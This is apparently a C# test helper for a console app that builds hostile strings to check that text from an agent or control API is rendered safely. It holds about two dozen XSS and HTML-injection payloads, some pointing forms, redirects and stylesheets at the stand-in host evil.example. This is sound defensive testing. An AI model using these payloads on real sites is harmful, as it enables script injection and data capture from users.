using System.Collections;
using System.Reflection;

namespace Bartizan.Console.Tests.Attacks;

/// <summary>What an agent could write to become more than text, and replies of the control API that hold it in every text that they have.</summary>
internal static class HostileTexts
{
    public const string Mark = "xyzzy";

    public static IReadOnlyList<string> All { get; } =
    [
        $"<script>{Mark}()</script>",
        $"\"><script>{Mark}()</script>",
        $"'><img src=x onerror={Mark}()>",
        $"\" autofocus onfocus=\"{Mark}()",
        $"' onmouseover='{Mark}()",
        $"javascript:{Mark}()",
        $"data:text/html,<script>{Mark}()</script>",
        $"</textarea><script>{Mark}()</script>",
        $"</title><svg onload={Mark}()>",
        $"</style><script>{Mark}()</script>",
        $"--><script>{Mark}()</script><!--",
        $"]]><script>{Mark}()</script>",
        $"<iframe srcdoc=\"<script>{Mark}()</script>\">",
        $"<base href=\"https://evil.example/{Mark}/\">",
        $"<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/{Mark}\">",
        $"<link rel=\"stylesheet\" href=\"https://evil.example/{Mark}.css\">",
        $"<form action=\"https://evil.example/{Mark}\"><input name=digest>",
        $"<math><mtext><table><mglyph><style><img src onerror={Mark}()>",
        $"<template><script>{Mark}()</script></template>",
        $"&lt;script&gt;{Mark}()&lt;/script&gt;",
        $"{{{{{Mark}.constructor.constructor('{Mark}()')()}}}}",
        $"%3Cscript%3E{Mark}()%3C/script%3E",
        $"\u202e<b>{Mark}</b>\u202c\u200b\u0000\u2028",
        $"\ud800<script>{Mark}()</script>",
        $"+ADw-script+AD4-{Mark}()+ADw-/script+AD4-",
    ];

    /// <summary>A reply with the text in each of its texts.</summary>
    public static T Fill<T>(string text) => (T)Make(typeof(T), text, 0)!;

    private static object? Make(Type type, string text, int depth)
    {
        var plain = Nullable.GetUnderlyingType(type) ?? type;
        if (plain == typeof(string))
        {
            return text;
        }

        if (plain == typeof(bool))
        {
            return true;
        }

        if (plain == typeof(DateTimeOffset))
        {
            return Made.Then;
        }

        if (plain.IsValueType)
        {
            return plain.IsPrimitive ? Convert.ChangeType(3, plain, null) : Activator.CreateInstance(plain);
        }

        if (plain.IsGenericType && plain.IsAssignableTo(typeof(IEnumerable)))
        {
            var item = plain.GetGenericArguments()[^1];
            var list = (IList)Activator.CreateInstance(typeof(List<>).MakeGenericType(item))!;
            if (depth < 4 && plain.IsAssignableFrom(list.GetType()))
            {
                list.Add(Make(item, text, depth + 1));
            }

            return plain.IsAssignableFrom(list.GetType()) ? list : null;
        }

        if (depth > 4 || plain.Namespace?.StartsWith("Bartizan.Client", StringComparison.Ordinal) != true)
        {
            return null;
        }

        var constructor = plain.GetConstructors().OrderByDescending(one => one.GetParameters().Length).First();
        var made = constructor.Invoke([
            .. constructor.GetParameters().Select(one => Make(one.ParameterType, text, depth + 1)),
        ]);
        foreach (
            var property in plain.GetProperties(BindingFlags.Public | BindingFlags.Instance).Where(p => p.CanWrite)
        )
        {
            property.SetValue(made, Make(property.PropertyType, text, depth + 1));
        }

        return made;
    }
}
